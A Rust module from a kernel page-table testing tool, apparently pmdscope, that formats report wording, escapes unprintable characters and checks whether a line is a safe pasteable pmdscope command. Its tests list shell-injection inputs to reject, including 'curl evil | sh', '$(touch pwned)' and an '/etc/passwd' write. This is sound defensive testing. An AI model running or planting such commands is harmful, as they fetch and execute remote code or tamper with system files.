//! Wording that more than one part of reports uses.

use pmdscope_arches::platform_name;

use crate::count::Count;
use crate::entry::{Hex, Value};
use crate::report::Verdict;
use crate::report::{References, RunReport};

/// Formats the numbers of results with each verdict. Those that passed within a bound are named if there are any.
pub(crate) fn verdicts(count: impl Fn(Verdict) -> u64) -> String {
    let bounded = match count(Verdict::PassBounded) {
        0 => String::new(),
        bounded => format!(" {bounded} pass-bounded,"),
    };
    let (findings, pass, unknown) = (count(Verdict::Findings), count(Verdict::Pass), count(Verdict::Unknown));
    format!("{findings} with findings, {pass} pass,{bounded} {unknown} unknown")
}

/// Formats a number of things: `1 row`, `2 rows`.
pub(crate) fn counted(number: impl ToString, thing: &str) -> String {
    let number = number.to_string();
    let ending = if number == "1" { "" } else { "s" };
    format!("{number} {thing}{ending}")
}

/// Formats a number of entries, exactly and, if that is short, as powers of two:
/// `3377699720527872 entries (2^52 - 2^50)`.
pub(crate) fn entries(count: &Count) -> String {
    let entries = if count.to_string() == "1" { "entry" } else { "entries" };
    match count.in_powers_of_two() {
        Some(powers) => format!("{count} {entries} ({powers})"),
        None => format!("{count} {entries}"),
    }
}

/// Names the platform of a run: `ppc64 radix Linux 7.2`.
pub(crate) fn platform(report: &RunReport) -> String {
    format!("{} Linux {}", platform_name(&report.arch, report.mmu.as_ref()), report.linux)
}

/// Describes the schedules that a machine excludes, and what they alone show; `None` if there are none.
pub(crate) fn excluded(report: &RunReport) -> Option<String> {
    let excluded = report.excluded.as_ref()?;
    let reasons: Vec<&str> = excluded.by.iter().map(|one| one.reason.as_str()).collect();
    let reasons = reasons.join("; or ");
    let place = excluded.place.as_ref().map_or(String::new(), |place| format!(" (before {place})"));
    if excluded.none_left {
        return Some(format!("no machine runs this order{place}: {reasons}"));
    }
    let example =
        excluded.schedule.as_ref().map_or(String::new(), |schedule| format!(", such as {schedule}{place}"));
    let mut found: Vec<&str> = excluded.findings.iter().map(|finding| finding.name.name()).collect();
    found.dedup();
    let shows =
        if found.is_empty() { String::new() } else { format!(". They alone show {}", found.join(", ")) };
    Some(format!("{}{example}: {reasons}{shows}", counted(&excluded.schedules, "further schedule")))
}

/// Describes how the references of a page changed.
pub(crate) fn references(page: &References) -> String {
    let (pfn, now, before) = (page.pfn.0, page.references, page.before);
    format!("page {pfn:#x} has {now} references in the end; it had {before}")
}

/// Names what was run: `arm64 Linux 6.12: split-unguarded against gup-fast-read on migration-read`.
pub(crate) fn headline(report: &RunReport) -> String {
    let (writer, walker) = (&report.writer, &report.walker);
    let routines = match report.has_walker() {
        true => format!("{writer} against {walker}"),
        false => format!("{writer} alone"),
    };
    format!("{}: {routines} on {}", platform(report), report.marked_entry())
}

/// Formats how many of a run's schedules: `2 of 12 schedules`.
pub(crate) fn of_schedules(schedules: &Count, report: &RunReport) -> String {
    let total = &report.schedules.total;
    let run = match &report.incomplete {
        None => "",
        Some(_) if total.to_string() == "1" => " that was run",
        Some(_) => " that were run",
    };
    format!("{schedules} of {}{run}", counted(total, "schedule"))
}

/// Whether a character is unsafe to show.
///
/// It may break the line, control a terminal, be invalid in XML, or look like something else: a control or
/// format character, an unusual space, or an unassigned character.
pub(crate) fn is_unprintable(c: char) -> bool {
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    // The characters that the standard library escapes, except for a mark that combines with the character
    // before it.
    let mut text = [b'a'; 5];
    let length = c.encode_utf8(&mut text[1..]).len();
    str::from_utf8(&text[..=length]).is_ok_and(|text| text.escape_debug().nth(1) == Some('\\'))
}

/// Quotes a word for a shell, in a command that can be pasted.
pub fn quoted(word: &str) -> String {
    // Versions of packages follow an equals sign, which is harmless except at the start of a word.
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./+:,%@=".contains(c);
    if word.starts_with(|c: char| c.is_ascii_alphanumeric()) && word.chars().all(plain) {
        return word.to_owned();
    }
    // No word of a shell contains a NUL, and neither does a file name.
    shlex::try_quote(word).map_or_else(|_| "''".to_owned(), Into::into)
}

/// Whether a text is a command line of this program's reports: a run or a sweep, whose words are [`quoted`].
///
/// A file of reports may contain any other text instead, which must not be pasted.
pub fn is_command(text: &str) -> bool {
    const MARKS: [&str; 4] = ["--young", "--dirty", "--soft-dirty", "--uffd-wp"];
    const WITH_VALUE: [&str; 20] = [
        "--arch",
        "--mmu",
        "--linux",
        "--guest",
        "--kernel",
        "--types",
        "--entry",
        "--entries",
        "--pmd",
        "--pfn",
        "--writer",
        "--walker",
        "--with",
        "--schedule",
        "--reduction",
        "--max-schedules",
        "--max-behaviours",
        "--max-accesses",
        "--max-instructions",
        "--timeout",
    ];
    let Some(words) = shlex::split(text) else { return false };
    let ["pmdscope", name @ ("run" | "sweep"), rest @ ..] =
        &words.iter().map(String::as_str).collect::<Vec<_>>()[..]
    else {
        return false;
    };
    let mut again = format!("pmdscope {name}");
    let mut rest = rest.iter();
    while let Some(option) = rest.next() {
        again = format!("{again} {option}");
        if WITH_VALUE.contains(option) {
            let Some(value) = rest.next() else { return false };
            again = format!("{again} {}", quoted(value));
        } else if !MARKS.contains(option) {
            return false;
        }
    }
    again == text
}

/// Returns the page frame number that a command line asks for.
pub(crate) fn page_frame_of(command: &str) -> Option<Hex> {
    let words = shlex::split(command)?;
    let number = words.windows(2).find(|pair| pair[0] == "--pfn").map(|pair| &pair[1])?;
    u64::from_str_radix(number.strip_prefix("0x")?, 16).ok().map(Hex)
}

/// Returns text that stays on one line and does nothing to a terminal: all unprintable characters are escaped.
pub fn one_line(text: &str) -> String {
    text.chars().fold(String::with_capacity(text.len()), |mut line, c| {
        if is_unprintable(c) {
            line.extend(c.escape_default());
        } else {
            line.push(c);
        }
        line
    })
}

/// Formats the number as the CPU saw it, where that differs from the entry's value.
pub(crate) fn raw_note(raw: Value, entry: Value) -> String {
    if raw == entry { String::new() } else { format!(" (raw {raw})") }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_does_no_more_than_run_this_program_is_a_command() {
        for command in [
            "pmdscope run --arch arm64 --linux 6.12 --entry migration-read --young --writer split --walker hmm",
            "pmdscope run --kernel 'a b; c.deb' --pmd 0x0060000000000000 --schedule K2W5 --timeout 1",
            "pmdscope sweep --arch arm64 --guest '$(x)' --entries migration",
        ] {
            assert!(is_command(command), "{command}");
        }
        for other in [
            "curl evil | sh",
            "pmdscope run; curl evil",
            "pmdscope run --arch arm64; curl evil",
            "pmdscope run --arch arm64\ncurl evil",
            "pmdscope run --arch arm64 # ",
            "pmdscope run --kernel $(touch pwned)",
            "pmdscope run --kernel \"$(touch pwned)\"",
            "pmdscope run --kernel a b",
            "pmdscope run --arch arm64 -o /etc/passwd",
            "pmdscope run --arch",
            "pmdscope repro run x",
            "pmdscope  run",
            "'pmdscope' run",
            "x=1 pmdscope run",
            "pmdscope run --kernel 'a",
            "",
        ] {
            assert!(!is_command(other), "{other}");
        }
    }
}
